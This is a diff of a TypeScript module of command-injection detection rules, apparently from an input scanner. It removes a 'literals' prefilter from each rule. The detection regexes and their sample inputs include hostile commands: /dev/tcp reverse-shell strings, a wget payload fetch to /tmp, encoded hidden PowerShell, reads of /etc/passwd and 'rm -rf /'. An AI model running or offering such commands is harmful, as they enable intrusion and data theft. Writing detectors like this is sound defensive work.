@@ -1,4 +1,4 @@
-import { pairsOf, type Rule } from '../../rule.js'
+import type { Rule } from '../../rule.js'
 import {
   findInjectedCommand,
   findLeadingCommand,
@@ -9,9 +9,6 @@ import {
   LEADING_WORDS
 } from './command-line.js'
 import { POWERSHELL_COMMAND, POWERSHELL_LITERALS, POWERSHELL_VERB_NOUN } from './windows-commands.js'
-
-/** Where a word may begin that is quoted apart, or be so. */
-const QUOTED_STARTS = `\\ ' " ${pairsOf('\n\t ;|&`(', '\' "')}`
 
 /** The beginning of a string that is a command behind another. */
 const LEADING_SEPARATOR = /^\s*["']?\)?\s*(?:[;|]|&&|\$\(|`[^`]{2,64}`$)[\s+]*["']?\(?/
@@ -26,7 +23,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: '`; cat /etc/passwd`, `| sh`, `$(id)`, `` `whoami` ``, `& ping -c 1 host`.',
     reach: 'parameter',
     except: ['string', 'standard-header', 'name'],
-    literals: '; | & \n \r ` $( <( >( { do␣ then␣',
     follows: LEADING_WORDS,
     test: findInjectedCommand,
     sign: INJECTED_SIGN,
@@ -38,7 +34,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: 'Whatever program, when an option or a path follows it behind a separator: `; anything -rf /x`.',
     reach: 'parameter',
     except: ['string', 'header', 'path', 'name'],
-    literals: '; | & ` $( \n',
     test: /(?:[;|]|&&|\n|(?<![a-z]{2}[,.:]? )`|\$\()\s{0,8}(?:\.{0,2}\/)?[a-z][\w.+-]{1,24}(?:\s{1,4}-{1,2}[a-z][\w-]{0,24}(?:[\s=;|`)]|$)|\s{1,4}~?\/\w[\w./*?-]{1,64}|\s{0,4}\|\s{0,4}(?:ba|da|z|k)?sh\b)|[|&]\s{0,8}[a-z][\w.]{1,24}\s{1,4}\/[a-z?](?=[\s:|&]|$)|[;|`]\s{0,8}(?:epal|epcsv|gal|gbp|gci|gcm|gcs|gdr|ghy|gjb|gmo|gps|gsnp?|gsv|gwmi|icm|iex|ihy|ip(?:al|csv|mo|sn)|iwmi|iwr|nal|ndr|nmo|nsn|ogv|rbp|rcjb|rdr|rjb|rmo|rni|rnp|rsnp?|rvpa|rwmi|sajb|saps|sasv|sbp|sls|sp(?:jb|ps|sv)|swmi|trcm|wjb|clhy|cvpa|dbp|ebp|asnp|etsn|exsn|epsn)\s{1,4}["'$./\\\w-]/i,
     finds: ';uname -a',
     leaves: 'a || b'
@@ -48,7 +43,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: 'A program with an option as the whole value.',
     reach: 'parameter',
     except: ['string', 'path', 'name'],
-    literals: '␣- \t-',
     test: /^\s{0,4}["']?(?!(?:(?:npm|yarn|pnpm|pip3?|brew)\s+(?:add|i|install|run|update|test)|git\s+(?:add|checkout|clone|commit|diff|log|merge|pull|push|rebase)|docker\s+(?:build|compose|pull|run))\s)(?:\w{1,16}=)?[a-z][\w.]{0,23}\w(?:-[\w.]{1,16}){0,3}(?:\s[a-z]{2,16})?\s{1,4}(?:--[a-z][a-z-]{1,24}(?:[\s=].{0,200})?|-[a-z]{1,2}\s{1,4}\S.{0,200})$/s,
     finds: 'bash -c "exec 3<>/dev/tcp/192.0.2.8/80"',
     leaves: '2 * 3 - 1'
@@ -79,7 +73,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     id: 'command-leads-string',
     why: 'A string of a message that begins with a separator and a command.',
     reach: 'field',
-    literals: '; | & ` $(',
     test: (text) => (text.length < 200 && LEADING_SEPARATOR.test(text) ? findInjectedCommand(text.replace(/\+/g, ' ')) : -1),
     sign: LEADING_SEPARATOR,
     finds: '`id`',
@@ -90,8 +83,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: 'A command that ends a value of another sort: `8.8.8.8; cat /etc/passwd`.',
     reach: 'field',
     except: ['xml'],
-    literals:
-      '/etc/passwd /etc/shadow /bin/sh /bin/bash /dev/tcp/ |␣sh |sh |␣bash |bash nc␣-e ;␣rm␣-rf␣/ ;id ;␣id |id |␣id `id` $(id) $(whoami) `whoami` ;ls ;␣ls whoami ; | & \n `',
     test: /[;|&`\n]\s{0,8}(?:cat|less|more|head|tail|tac|nl)\s{1,8}\/etc\/(?:passwd|shadow|hosts)|\/dev\/tcp\/[\w.]+\/\d|^[^\s;|&]{1,64}\s{0,8}(?:[;|`]|&&|\$\()\s{0,8}(?:cat|id|whoami|uname|ls|nc|wget|curl|ping|sleep|nslookup|rm)\b[\w\s./:-]{0,64}[`)]?;?$|\bnc\s{1,8}-[a-z]{0,8}e[a-z]{0,8}\s|[;|&]\s{0,8}(?:\/bin\/)?(?:ba)?sh\s{1,8}-[ci]\b|\b(?:curl|wget)\s[^|;]{4,128}\|\s{0,8}(?:sudo\s{1,8})?(?:ba)?sh\s{0,8}$/,
     finds: "w'ho'ami;ls -la",
     leaves:
@@ -102,7 +93,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: "A word that is quoted apart so that no filter knows it: `'wh'oami`, `c''at`.",
     reach: 'string',
     except: ['path'],
-    literals: QUOTED_STARTS,
     test: findQuotedApart,
     sign: APART,
     finds: 'c\\at /etc/hostname',
@@ -113,7 +103,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: 'A script that the shell reads into itself: `; . ./x`.',
     reach: 'parameter',
     except: ['header', 'path'],
-    literals: '.␣ .\r .\n .\t',
     test: /(?:[;|&]|\$\(|(?:^|[\s=])`)\s{0,4}\.\s{1,4}[\w~/$.]/,
     finds: '; . ./a',
     leaves: 'a ... b. c'
@@ -140,7 +129,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     id: 'command-powershell-in-string',
     why: 'PowerShell that downloads or decodes, in a string.',
     reach: 'field',
-    literals: 'powershell downloadstring invoke- iex iwr',
     test: /\bpowershell(?:\.exe)?\s{1,8}[^\n]{0,80}-e(?:nc|ncodedcommand)?\s{1,8}[A-Za-z0-9+/=]{16,}|\b(?:iex|invoke-expression)\s{0,8}\(?\s{0,8}\(?\s{0,8}new-object\b|\b(?:iwr|invoke-(?:webrequest|restmethod))\s{1,8}(?:-uri\s{1,8})?['"]?https?:|\.downloadstring\s{0,8}\(\s{0,8}['"]https?:/i,
     finds: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
     leaves: 'open powershell and look'
@@ -150,7 +138,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     why: 'cmd.exe with an option.',
     reach: 'string',
     wholeOnly: true,
-    literals: 'cmd command.com %comspec%',
     test: /\bcmd(?:\.exe|32)?["']?\s*\/[ckrsv]\b|\bcommand\.com\b|%comspec%|\bcmd\.exe\b(?!["'`)]{0,2}[,.]?\s[a-z]{2})/i,
     finds: 'cmd.exe /c net user',
     leaves:
@@ -160,7 +147,6 @@ export const COMMAND_RULES: readonly Rule[] = [
     id: 'command-line-in-string',
     why: 'A string of a message that is a command line only an intruder types.',
     reach: 'string',
-    literals: '/etc/ bash␣-i /bin/ nc␣ rm␣-rf␣/ whoami wget␣ curl␣ cat␣ zip␣ zcat␣ tac␣ less␣ head␣ tail␣ time␣ trace␣',
     test: /^["'\s]{0,4}(?:(?:cat|tac|less|head|tail|(?:zst|[zb]|bz|xz|lz)cat|g(?:un)?zip)\s+(?:-\w+\s+){0,3}\/\w+\/[\w./-]+\s*$|(?:time|[sl]trace)\s+(?:sh\s+-c\s+)?(?:who|whoami|id|curl|wget|nc|bsdtar|uname)\b|(?:cat|less|more|head|tail|nl|tac|cp|strings)\s+\/(?:etc|proc|root|var\/log)\/|(?:ba|z|k)?sh\s+-i\b|\/(?:usr\/)?bin\/(?:\w{0,3}sh|cat|nc|id|ls|wget|curl|perl|python\d?|g(?:un)?zip|[zbx]z?cat)\b(?:\s+-|\s+\/|$)|nc(?:at)?\s+(?:-[a-z]+\s+)*[\w.]+\s+\d{2,5}(?:\s+-e|\s*$)|rm\s+-rf\s+\/(?:\s|\*|$)|whoami$|(?:wget|curl)\s[^|;&]{4,128}(?:[|;]\s*(?:ba)?sh|&&\s*(?:chmod|sh|bash)|-O\s*\/tmp))/,
     finds: 'wget http://192.0.2.6/bot.sh -O /tmp/b',
     leaves:
